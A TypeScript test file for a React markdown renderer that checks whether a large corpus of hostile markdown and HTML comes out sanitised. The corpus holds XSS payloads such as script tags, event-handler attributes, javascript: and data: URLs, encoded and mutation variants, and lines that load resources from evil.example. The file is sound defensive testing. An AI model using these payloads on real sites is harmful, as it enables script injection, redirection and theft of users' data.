import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { advance, blocksOf, emptyMarkdown } from './markdown-blocks.ts'
import { MarkdownBlock } from './markdown-block.tsx'
import { LinkContext } from './markdown-inline.tsx'

const targets: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&#58;alert(1)',
  'javascript&#0000058alert(1)',
  'java%73cript:alert(1)',
  'java\\script:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'file:///etc/passwd',
  'blob:https://example.com/1',
  'about:blank',
  'view-source:https://example.com',
  'ms-settings:',
  'intent://scan/#Intent;end',
  '//evil.example/path',
  '/relay/agents',
  '#fragment',
  '?query',
  'https://good.example@evil.example/',
  'https://user:secret@evil.example/',
  'http:\\\\evil.example',
  'https://evil.example/"onmouseover="alert(1)',
  "https://evil.example/'onclick='alert(1)",
  'https://evil.example/`x`',
  'https://еxample.com/',
  'https://[::1]:99999/',
  'https://',
  'mailto:a@example.com?body=%0Ax',
  'xmpp:a@example.com',
  'ftp://example.com/file',
]

/** Every construct that carries a target. */
const carriers: readonly ((target: string) => string)[] = [
  (target) => `[text](${target})`,
  (target) => `[text](<${target}>)`,
  (target) => `[text](${target} "title")`,
  (target) => `![alt](${target})`,
  (target) => `[![alt](${target})](${target})`,
  (target) => `<${target}>`,
  (target) => target,
  (target) => `[ref]\n\n[ref]: ${target}`,
  (target) => `[ref]: <${target}> "t"\n\n![ref]`,
  (target) => `| a |\n|---|\n| [x](${target}) |`,
  (target) => `- [ ] [x](${target})\n- ${target}`,
  (target) => `> # [x](${target})`,
  (target) => `use[^1]\n\n[^1]: [x](${target})`,
  (target) => `<a href="${target}">x</a>`,
  (target) => `<img src="${target}">`,
  (target) => `<iframe src="${target}"></iframe>`,
]

const raw: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onclick=alert(1)>',
  '<a href="https://example.com" style="position:fixed;inset:0">x</a>',
  '<div id="root" name="body" class="x">clobber</div>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\<script\\>alert(1)\\</script\\>',
  '`<script>alert(1)</script>`',
  '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\ncode',
  '~~~<img src=x onerror=alert(1)>\nx\n~~~',
  '[<img src=x onerror=alert(1)>](https://example.com)',
  '![<script>](https://evil.example "<img src=x onerror=alert(1)>")',
  '[x](https://example.com "\\"onmouseover=alert(1) ")',
  "[x](https://example.com '\"><script>alert(1)</script>')",
  '**<b onclick=alert(1)>**',
  '$\\href{javascript:alert(1)}{x}$',
  '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<!---->ipt>alert(1)</scr<!---->ipt>',
  '\u202Egnp.exe\u202C [\u202Etxt\u202C](https://example.com/\u202Ecod)',
  '\u0000<script>\u0000alert(1)</script>',
  '[__proto__]\n\n[__proto__]: https://example.com',
  '[constructor] [toString][] ![hasOwnProperty]',
  '[^__proto__]\n\n[^__proto__]: note',
  '[a]: javascript:alert(1)\n[a]: https://example.com\n\n[a]',
  '| <script> | <img src=x> |\n|---|---|\n| <svg onload=alert(1)> | <!-- |',
  '- <script>alert(1)</script>\n  1. <iframe>',
  '# <script>alert(1)</script>\n\n<style>*{}</style>\n===',
  `${'['.repeat(500)}x${'](javascript:alert(1))'.repeat(500)}`,
  `${'> '.repeat(500)}<script>alert(1)</script>`,
  `${'*_'.repeat(400)}<script>alert(1)</script>${'_*'.repeat(400)}`,
  `${'- '.repeat(24)}[x](javascript:alert(1))`,
]

/** Where raw text is put. */
const settings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `before ${text} after`,
  (text) => `> ${text}`,
  (text) => `- ${text}`,
]

const links = targets.flatMap((target) => carriers.map((carrier) => carrier(target)))
const corpus: readonly string[] = [...links, ...raw.flatMap((text) => settings.map((setting) => setting(text)))]

const ELEMENTS: ReadonlySet<string> = new Set(
  (
    'div p span h3 h4 h5 h6 ul ol li input blockquote pre code em strong del br hr a sup bdi ' +
    'table thead tbody tr th td button svg path rect'
  ).split(' '),
)
const ATTRIBUTES: ReadonlySet<string> = new Set(
  (
    'class dir data-from data-to data-chrome data-align role aria-label aria-hidden tabindex start scope type checked ' +
    'disabled href target rel title'
  ).split(' '),
)
/** The copy button and its icon are ours alone; their attributes are not from the text. */
const CHROME: ReadonlySet<string> = new Set(['button', 'svg', 'path', 'rect'])

const TAG = /<(\/?)([a-zA-Z][a-zA-Z0-9-]*)((?:\s+[^\s=>"/]+(?:="[^"]*")?)*)\s*\/?>/g
const ATTRIBUTE = /([^\s=>"/]+)(?:="([^"]*)")?/g

/** What is wrong with the markup React serialised; it escapes `<`, `>`, `&` and quotes in all text. */
const offences = (html: string): readonly string[] => {
  const found: string[] = []
  let bare = html
  for (const match of html.matchAll(TAG)) {
    const name = match[2] ?? ''
    bare = bare.replace(match[0], '')
    if (!ELEMENTS.has(name)) found.push(`element ${name}`)
    if (CHROME.has(name)) continue
    for (const [, attribute = '', value = ''] of (match[3] ?? '').matchAll(ATTRIBUTE)) {
      if (!ATTRIBUTES.has(attribute)) found.push(`attribute ${attribute} of ${name}`)
      if (attribute === 'href' && !/^(?:https?:\/\/[^/@]+(?:\/|$)|mailto:)/.test(value)) found.push(`href ${value}`)
      if (attribute === 'target' && value !== '_blank') found.push(`target ${value}`)
      if (attribute === 'rel' && value !== 'noopener noreferrer') found.push(`rel ${value}`)
    }
  }
  if (/[<>]/.test(bare)) found.push(`unescaped text ${bare.slice(0, 80)}`)
  return found
}

const open = () => {}

/** Every block is rendered once per distinct object, as the memoised view does. */
const createRenderer = () => {
  const seen = new Set<unknown>()
  return (state: ReturnType<typeof advance>): readonly string[] =>
    blocksOf(state).flatMap((block) => {
      if (seen.has(block)) return []
      seen.add(block)
      const view = createElement(MarkdownBlock, { block })
      return offences(renderToStaticMarkup(createElement(LinkContext, { value: open }, view)))
    })
}

describe('hostile text', () => {
  test('is a corpus worth its name', () => {
    expect(new Set(corpus).size).toBeGreaterThan(700)
  })

  test('the check itself finds what it looks for', () => {
    expect(offences('<p><img src="x"></p>')).toEqual(['element img', 'attribute src of img'])
    expect(offences('<a href="javascript:x" onclick="y">z</a>')).toEqual([
      'href javascript:x',
      'attribute onclick of a',
    ])
    expect(offences('<p>a < b</p>')).toHaveLength(1)
  })

  test('at once: only known elements, attributes and targets', () => {
    const bad = corpus.flatMap((text) =>
      createRenderer()(advance(emptyMarkdown, text)).map((offence) => [text, offence]),
    )
    expect(bad).toEqual([])
  })

  test('one character at a time: only known elements, attributes and targets', () => {
    const bad = corpus
      .filter((text) => text.length < 400)
      .flatMap((text) => {
        const render = createRenderer()
        let state = emptyMarkdown
        return Array.from(text, (_, index) => {
          state = advance(state, text.slice(0, index + 1))
          return render(state).map((offence) => [text.slice(0, index + 1), offence])
        }).flat()
      })
    expect(bad).toEqual([])
  }, 60_000)

  test('in one long answer: only known elements, attributes and targets', () => {
    expect(createRenderer()(advance(emptyMarkdown, corpus.join('\n\n')))).toEqual([])
  })
})
